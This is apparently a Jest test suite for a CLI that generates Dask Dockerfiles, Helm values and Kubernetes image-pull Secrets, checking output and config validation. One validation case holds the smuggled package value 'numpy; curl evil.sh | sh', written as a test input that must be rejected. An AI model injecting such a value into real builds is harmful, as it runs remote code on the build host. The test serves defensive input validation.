import { execFileSync, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse, parseAllDocuments } from "yaml";
import { run } from "../../components/cli/main";

const ROOT = path.resolve(__dirname, "../..");
const BIN = path.join(ROOT, "bin", "slim-dask.js");

function cli(args: string[], stdin?: string): { code: number; out: string; err: string } {
  let out = "";
  let err = "";
  const code = run(args, { out: (t) => (out += t), err: (t) => (err += t), stdin: () => stdin });
  return { code, out, err };
}

/** The config dirs the tests wrote, removed after the suite (they were left in /tmp). */
const configDirs: string[] = [];
afterAll(() => {
  for (const dir of configDirs) fs.rmSync(dir, { recursive: true, force: true });
});

function writeConfig(content: string, ext = "yaml"): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "slim-dask-cli-"));
  configDirs.push(dir);
  const file = path.join(dir, `config.${ext}`);
  fs.writeFileSync(file, content);
  return file;
}

describe("slim-dask CLI", () => {
  test("the installed binary prints the default Dockerfile, byte-identical across runs", () => {
    // Runs the real launcher (compiled by `npm run build`, which `npm test` runs first).
    const first = execFileSync("node", [BIN, "dockerfile"], { cwd: ROOT });
    const second = execFileSync("node", [BIN, "dockerfile"], { cwd: ROOT });
    expect(first.equals(second)).toBe(true);
    const text = first.toString();
    expect(text).toMatch(/^FROM \S*mambaorg\/micromamba\S* AS build$/m);
    for (const technique of [
      "nomkl",
      "--freeze-installed",
      "clean --all --yes",
      "static-libs",
      "source-maps",
      "bokeh-unminified",
    ]) {
      expect(text).toContain(technique);
    }
    expect(text).toContain('ENTRYPOINT ["tini", "-g", "--"]');
  });

  test("dockerfile with a config renders that recipe", () => {
    const file = writeConfig('base: pip\npython: "3.11"\npipPackages: [s3fs]\n');
    const { code, out } = cli(["dockerfile", "--config", file]);
    expect(code).toBe(0);
    expect(out).toContain("s3fs");
    expect(out).toContain("python3 -m venv /opt/venv");
  });

  test("context writes the full build context and prints the tag", () => {
    const file = writeConfig('{"imageName": "registry.example.com/dask", "base": "pip"}', "json");
    const outDir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "slim-dask-ctx-")), "ctx");
    const { code, out } = cli(["context", "--config", file, "--out", outDir]);
    expect(code).toBe(0);
    const tag = /^tag: (\S+)$/m.exec(out)?.[1];
    expect(tag).toMatch(/^\d{4}\.\d+\.\d+-[0-9a-f]{12}$/);
    expect(out).toContain(`image: registry.example.com/dask:${tag}`);
    expect(fs.readFileSync(path.join(outDir, "Dockerfile"), "utf8")).toBe(
      cli(["dockerfile", "--config", file]).out,
    );
    expect(fs.existsSync(path.join(outDir, "slim-dask", "prune.sh"))).toBe(true);
  });

  test("values prints chart values as YAML", () => {
    const file = path.join(ROOT, "examples", "cluster.yaml");
    const { code, out } = cli(["values", "--config", file]);
    expect(code).toBe(0);
    const values = parse(out);
    expect(out).not.toMatch(/[&*]a\d/); // plain YAML, no anchors or aliases
    expect(values.jupyter.enabled).toBe(false);
    expect(values.worker.image.tag).toMatch(/@sha256:[0-9a-f]{64}$/);
    expect(values.worker.resources.limits).toEqual({ cpu: "2", memory: "8Gi" });
    expect(values.worker.image.pullSecrets).toEqual([{ name: expect.any(String) }]);
  });

  test.each([
    ["dockerfile", 'packages: ["numpy; curl evil.sh | sh"]\n', "packages[0]"],
    ["dockerfile", "registry: {server: ghcr.io, username: u, password: p}\n", "registry.password"],
    ["dockerfile", "optimisations: {nomkl: false}\n", "optimisations"],
    ["dockerfile", "python: [unclosed\n", "--config"],
    ["values", "image: ghcr.io/a/b\nworkers: {replicas: 1.5}\n", "workers.replicas"],
    [
      "values",
      "image: ghcr.io/a/b\nimagePullCredentials: {server: ghcr.io, username: u, password: p}\n",
      "imagePullCredentials.password",
    ],
  ])("%s rejects bad config %j with one line naming %s", (command, config, field) => {
    const { code, out, err } = cli([command, "--config", writeConfig(config)]);
    expect(code).toBe(1);
    expect(out).toBe("");
    expect(err.startsWith(`slim-dask: ${field}: `)).toBe(true);
    expect(err.trim().split("\n")).toHaveLength(1);
    expect(err).not.toMatch(/\bat .*\.(js|ts):\d+/);
  });

  test.each([
    [
      "values",
      "image: ghcr.io/a/b@sha256:" +
        "a".repeat(64) +
        "\nimagePullCredentials: {server: ghcr.io, username: u, password: p}\n",
      "imagePullCredentials.password",
      "pipe it to `slim-dask pull-secret --config <file>`",
    ],
    [
      "values",
      "image: ghcr.io/a/b@sha256:" + "a".repeat(64) + "\nchartRepositoryPassword: p\n",
      "chartRepositoryPassword",
      "--password-stdin",
    ],
    [
      "dockerfile",
      "registry: {server: ghcr.io, username: u, password: p}\n",
      "registry.password",
      "docker login <server> --username <user> --password-stdin",
    ],
    [
      "values",
      "image: a@sha256:" + "a".repeat(64) + "\nworkers: {memory: 4096}\n",
      "workers.memory",
      "`memory: 4096Mi`",
    ],
    [
      "values",
      "image: a@sha256:" + "a".repeat(64) + "\nworkers: {cpu: 2}\n",
      "workers.cpu",
      '`cpu: "2"`',
    ],
  ])("%s: %j names %s and the fix %s", (command, config, field, fix) => {
    const { code, err } = cli([command, "--config", writeConfig(config)]);
    expect(code).toBe(1);
    expect(err.startsWith(`slim-dask: ${field}: `)).toBe(true);
    expect(err).toContain(fix);
  });

  test("a YAML syntax error is one clean line: position, no code frame, no dangling colon", () => {
    const { code, err } = cli([
      "values",
      "--config",
      writeConfig("image: a\nworkers:\n\treplicas: 2\n"),
    ]);
    expect(code).toBe(1);
    expect(err.trim().split("\n")).toHaveLength(1);
    expect(err).toMatch(/at line 3, column 1\. Fix: fix the syntax/);
  });

  test("a missing config file is a clear error, and the real binary exits non-zero", () => {
    const result = spawnSync("node", [BIN, "values", "--config", "/nonexistent/cluster.yaml"], {
      cwd: ROOT,
    });
    expect(result.status).toBe(1);
    expect(result.stderr.toString()).toBe(
      'slim-dask: --config: cannot read "/nonexistent/cluster.yaml" (ENOENT). Fix: give the path of an existing YAML or JSON file\n',
    );
  });

  test("usage errors exit 2", () => {
    expect(cli(["frobnicate"]).code).toBe(2);
    expect(cli(["context", "--config", "x.yaml"]).code).toBe(2);
  });

  test("--version prints the package version, from the real binary too", () => {
    const { version } = JSON.parse(fs.readFileSync(path.join(ROOT, "package.json"), "utf8"));
    expect(version).toMatch(/^\d+\.\d+\.\d+/);
    const inProcess = cli(["--version"]);
    expect(inProcess).toEqual({ code: 0, out: `${version}\n`, err: "" });
    expect(execFileSync("node", [BIN, "--version"], { cwd: ROOT }).toString()).toBe(`${version}\n`);
  });

  test("values prints on stderr the commands that install it, for this config", () => {
    const file = path.join(ROOT, "examples", "cluster.yaml");
    const { code, out, err } = cli(["values", "--config", file]);
    expect(code).toBe(0);
    const secret = parse(out).worker.image.pullSecrets[0].name;
    expect(secret).toBe("analytics-dask-image-pull");
    expect(err).toContain(`"${secret}" in namespace "dask"`);
    const commands = err
      .split("\n")
      .filter((l) => l.startsWith("  "))
      .map((l) => l.trim());
    expect(commands).toEqual([
      `printf '%s' "$REGISTRY_PASSWORD" | npx slim-dask pull-secret --config ${file} | kubectl apply -f -`,
      "helm repo add dask https://helm.dask.org",
      "helm repo update dask",
      "helm upgrade --install analytics-dask dask/dask --version 2024.1.1 --namespace dask --create-namespace --values values.yaml --atomic --timeout 600s",
    ]);
    // Without credentials there is no Secret to create: only helm.
    const plain = writeConfig(
      "image: ghcr.io/acme/dask:1@sha256:abababababababababababababababababababababababababababababababab\nreleaseName: r1\n",
    );
    const plainErr = cli(["values", "--config", plain]).err;
    expect(plainErr).not.toContain("pull-secret");
    expect(plainErr).toContain(
      "  helm upgrade --install r1 dask/dask --version 2024.1.1 --namespace default --values values.yaml --atomic --timeout 600s\n",
    );
  });

  test("the README's plain-helm quickstart is what values prints for examples/cluster.yaml", () => {
    const readme = fs.readFileSync(path.join(ROOT, "README.md"), "utf8");
    const section = readme.slice(readme.indexOf("## Quickstart: the CLI with plain helm"));
    const block = /```sh\n([\s\S]*?)```/.exec(section)?.[1] ?? "";
    const lines = block.split("\n").map((l) => l.replace(/\s+#.*$/, "").trim());
    const after = lines.slice(
      lines.indexOf("npx slim-dask values --config cluster.yaml > values.yaml") + 1,
    );
    expect(after.length).toBeGreaterThan(1);
    // Run from the directory holding cluster.yaml, with stdout redirected to values.yaml.
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "slim-dask-quickstart-"));
    fs.copyFileSync(path.join(ROOT, "examples", "cluster.yaml"), path.join(dir, "cluster.yaml"));
    const values = fs.openSync(path.join(dir, "values.yaml"), "w");
    const result = spawnSync("node", [BIN, "values", "--config", "cluster.yaml"], {
      cwd: dir,
      stdio: ["ignore", values, "pipe"],
    });
    fs.closeSync(values);
    expect(result.status).toBe(0);
    const printed = result.stderr
      .toString()
      .split("\n")
      .filter((l) => l.startsWith("  "))
      .map((l) => l.trim());
    expect(after.filter((l) => l !== "")).toEqual(printed);
    expect(result.stderr.toString()).toMatch(/^slim-dask: install values\.yaml with:$/m);
    expect(parse(fs.readFileSync(path.join(dir, "values.yaml"), "utf8")).worker).toBeDefined();
  });

  test("values names the file stdout went to in the helm command", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "slim-dask-redirect-"));
    fs.copyFileSync(path.join(ROOT, "examples", "cluster.yaml"), path.join(dir, "c.yaml"));
    fs.mkdirSync(path.join(dir, "out"));
    const fd = fs.openSync(path.join(dir, "out", "my values.yaml"), "w");
    const result = spawnSync("node", [BIN, "values", "--config", "c.yaml"], {
      cwd: dir,
      stdio: ["ignore", fd, "pipe"],
    });
    fs.closeSync(fd);
    expect(result.status).toBe(0);
    expect(result.stderr.toString()).toContain("--values 'out/my values.yaml' --atomic");
    // Piped, the file is not known: the commands say values.yaml and ask to save it so.
    const piped = spawnSync("node", [BIN, "values", "--config", "c.yaml"], { cwd: dir });
    expect(piped.stderr.toString()).toMatch(/^slim-dask: save these values as values\.yaml, then/);
    expect(piped.stderr.toString()).toContain("--values values.yaml --atomic");
  });

  test("pull-secret turns the password on stdin into the Secret manifest the values name", () => {
    const file = path.join(ROOT, "examples", "cluster.yaml");
    const password = "s3cr3t-t0ken";
    const { code, out, err } = cli(["pull-secret", "--config", file], `${password}\n`);
    expect(code).toBe(0);
    expect(err).toBe("");
    // examples/cluster.yaml creates its namespace: the Namespace comes first.
    const [namespace, manifest] = parseAllDocuments(out).map((d) => d.toJS());
    expect(namespace).toEqual({ apiVersion: "v1", kind: "Namespace", metadata: { name: "dask" } });
    expect(manifest).toMatchObject({
      apiVersion: "v1",
      kind: "Secret",
      type: "kubernetes.io/dockerconfigjson",
      metadata: { name: "analytics-dask-image-pull", namespace: "dask" },
    });
    const config = JSON.parse(
      Buffer.from(manifest.data[".dockerconfigjson"], "base64").toString("utf8"),
    );
    // The trailing newline of `echo` is not part of the password.
    expect(config.auths["ghcr.io"]).toEqual({
      username: "acme-bot",
      password,
      auth: Buffer.from(`acme-bot:${password}`).toString("base64"),
    });
    // The password itself is only inside the base64 payload, never in clear text.
    expect(out).not.toContain(password);
    expect(cli(["pull-secret", "--config", file], `${password}\n`).out).toBe(out);
    // A namespace the config does not create is not in the manifest.
    const existing = writeConfig(
      fs.readFileSync(file, "utf8").replace("createNamespace: true", "createNamespace: false"),
    );
    const docs = parseAllDocuments(cli(["pull-secret", "--config", existing], "pw").out);
    expect(docs.map((d) => d.toJS().kind)).toEqual(["Secret"]);
  });

  test("pull-secret without a piped password or without credentials fails with one clear line", () => {
    const file = path.join(ROOT, "examples", "cluster.yaml");
    const noStdin = cli(["pull-secret", "--config", file]);
    expect(noStdin.code).toBe(1);
    expect(noStdin.err).toMatch(/^slim-dask: stdin: no password was piped in\. Fix: pipe it/);
    const plain = writeConfig(
      "image: ghcr.io/acme/dask:1@sha256:abababababababababababababababababababababababababababababababab\n",
    );
    const noCreds = cli(["pull-secret", "--config", plain], "pw\n");
    expect(noCreds.code).toBe(1);
    expect(noCreds.err).toMatch(/^slim-dask: imagePullCredentials: is not set/);
    expect(noCreds.out).toBe("");
  });

  test("the real binary reads the password from a pipe and never echoes it", () => {
    const file = path.join(ROOT, "examples", "cluster.yaml");
    const result = spawnSync("node", [BIN, "pull-secret", "--config", file], {
      cwd: ROOT,
      input: "pipe-pass\n",
    });
    expect(result.status).toBe(0);
    expect(result.stderr.toString()).toBe("");
    expect(result.stdout.toString()).toContain("kind: Secret");
    expect(result.stdout.toString()).not.toContain("pipe-pass");
  });
});
